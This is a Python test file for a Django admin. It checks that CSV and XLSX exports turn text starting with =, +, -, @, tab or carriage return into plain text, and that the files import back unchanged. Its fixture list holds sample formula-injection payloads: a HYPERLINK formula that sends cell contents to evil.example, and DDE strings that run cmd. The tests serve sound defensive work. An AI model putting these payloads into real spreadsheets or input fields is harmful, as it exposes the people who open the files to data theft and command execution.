"""Spreadsheet exports carry no formulae: a text that a spreadsheet would run as a formula
(starting with =, +, -, @, a tab or a carriage return) goes out as text, in CSV and in XLSX,
from every admin export, and comes back unchanged when the file is imported."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from core.exports import SafeCSV, SafeXLSX
from roundtables.models import Participant

from .factories import ActionFactory, ActivityFactory, ParticipantFactory
from .staff import member_of
from .test_import_export import CSV, XLSX, confirm, export, upload

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
# A text starting with each character that makes a spreadsheet cell a formula.
FORMULAE = [
    HYPERLINK,
    '+HYPERLINK("http://evil.example/","Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def xlsx_cell(sheet, column: str, row_key: str, key_column: str):
    """The cell of ``column`` in the row whose ``key_column`` is ``row_key``."""
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[header.index(key_column)].value == row_key:
            return row[header.index(column)]
    raise AssertionError(f"no row {row_key}")


def has_formulae(response) -> bool:
    """Whether any sheet of an XLSX file holds a formula (an <f> element)."""
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return any(b"<f>" in book.read(name) or b"<f " in book.read(name) for name in sheets)


@pytest.mark.parametrize("text", FORMULAE, ids=IDS)
def test_csv_exports_quote_a_text_that_would_be_a_formula(client, text):
    member_of(client, "Editors")
    action = ActionFactory(title=text)
    (row,) = csv_rows(export(client, "actions.action", CSV))
    assert row["slug"] == action.slug
    assert row["title_en"] == "'" + text  # OWASP: a leading quote makes it text


@pytest.mark.parametrize("text", FORMULAE, ids=IDS)
def test_the_participants_csv_export_with_their_addresses_quotes_formulae(client, text):
    member_of(client, "Editors")
    participant = ParticipantFactory(name=text, position=text)
    (row,) = csv_rows(export(client, "roundtables.participant", CSV))
    assert row["email"] == participant.email
    assert row["name"] == row["position"] == "'" + text


def test_the_participants_export_for_viewers_quotes_formulae_too(client):
    member_of(client, "Viewers")
    ParticipantFactory(name=HYPERLINK)
    (row,) = csv_rows(export(client, "roundtables.participant", CSV))
    assert "email" not in row and row["name"] == "'" + HYPERLINK
    sheet = xlsx_sheet(export(client, "roundtables.participant", XLSX))
    cell = sheet[2][[cell.value for cell in sheet[1]].index("name")]
    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("text", FORMULAE, ids=IDS)
def test_xlsx_exports_write_a_text_that_would_be_a_formula_as_text(client, text):
    """The cell holds the text itself, typed as text (never a formula), and marked as Excel
    marks a text typed with a leading quote, so that editing the cell keeps it text."""
    member_of(client, "Editors")
    action = ActionFactory(title=text)
    response = export(client, "actions.action", XLSX)
    assert not has_formulae(response)
    cell = xlsx_cell(xlsx_sheet(response), "title_en", action.slug, "slug")
    assert cell.data_type == "s"
    # XML reads a carriage return back as a line feed: openpyxl writes it unescaped.
    assert cell.value == text.replace("\r", "\n")
    assert cell.quotePrefix


@pytest.mark.parametrize("text", FORMULAE, ids=IDS)
def test_the_participants_xlsx_export_writes_formulae_as_text(client, text):
    member_of(client, "Moderators")
    participant = ParticipantFactory(name=text)
    response = export(client, "roundtables.participant", XLSX)
    assert not has_formulae(response)
    cell = xlsx_cell(xlsx_sheet(response), "name", participant.email, "email")
    assert cell.data_type == "s" and cell.quotePrefix


def test_xlsx_exports_write_an_error_code_as_text(client):
    member_of(client, "Editors")
    action = ActionFactory(title="#N/A")
    cell = xlsx_cell(
        xlsx_sheet(export(client, "actions.action", XLSX)), "title_en", action.slug, "slug"
    )
    assert cell.data_type == "s" and cell.value == "#N/A"


def test_xlsx_exports_keep_numbers_dates_and_yes_no_as_such(client):
    """Ours are subclasses of django-import-export's formats, which it recognises by their
    exact class to keep native values: the admin must keep them all the same."""
    member_of(client, "Editors")
    activity = ActivityFactory(number=3)
    sheet = xlsx_sheet(export(client, "actions.activity", XLSX))
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    assert row[header.index("number")].value == activity.number == 3
    assert row[header.index("number")].data_type == "n"
    assert row[header.index("start_date")].is_date
    action_sheet = xlsx_sheet(export(client, "actions.action", XLSX))
    published = xlsx_cell(action_sheet, "is_published", activity.action.slug, "slug")
    assert published.value is True


# Texts that look like what the export changes, and the CSV cell each goes out as.
CSV_CELLS = {
    **{text: "'" + text for text in FORMULAE},
    "-3": "-3",  # a plain number is never a formula: left as it is
    "'=quoted by hand": "''=quoted by hand",  # one quote more, taken away on import
    "''+twice": "'''+twice",
    "'a quote before a letter": "'a quote before a letter",
    "It's = fine in the middle": "It's = fine in the middle",
}


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_an_export_imported_back_leaves_every_text_as_it_was(client, demo, file_format):
    """CSV: the export adds one quote before such a text (and before the quotes it may
    already start with), the import takes one away; XLSX: the text itself, as text."""
    member_of(client, "Editors")
    texts = list(CSV_CELLS)
    if file_format == XLSX:
        # openpyxl writes a carriage return as it is, which XML reads back as a line feed.
        texts.remove("\r=1+1")
    participants = list(
        Participant.objects.select_related("roundtable").order_by("pk")[: len(texts)]
    )
    assert len(participants) == len(texts)  # the demo has enough of them to carry them all
    positions = {}
    for participant, text in zip(participants, texts, strict=True):
        Participant.objects.filter(pk=participant.pk).update(position=text)
        positions[participant.pk] = text
    exported = export(client, "roundtables.participant", file_format)
    if file_format == CSV:
        cells = {(row["roundtable"], row["email"]): row["position"] for row in csv_rows(exported)}
        keys = {p.pk: (p.roundtable.slug, p.email) for p in participants}
        assert {pk: cells[key] for pk, key in keys.items()} == {
            pk: CSV_CELLS[text] for pk, text in positions.items()
        }
    else:
        assert not has_formulae(exported)
    name = "export.xlsx" if file_format == XLSX else "export.csv"
    dry_run = upload(client, "roundtables.participant", exported.content, name, file_format)
    result = dry_run.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}
    confirm(client, "roundtables.participant", dry_run)
    after = Participant.objects.filter(pk__in=positions).values_list("pk", "position")
    assert dict(after) == positions


def test_every_admin_export_offers_only_the_formats_without_formulae():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert len(exporting) >= 5  # Actions, activities, outcomes, institutions, participants
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SafeCSV | SafeXLSX) for f in formats), model_admin
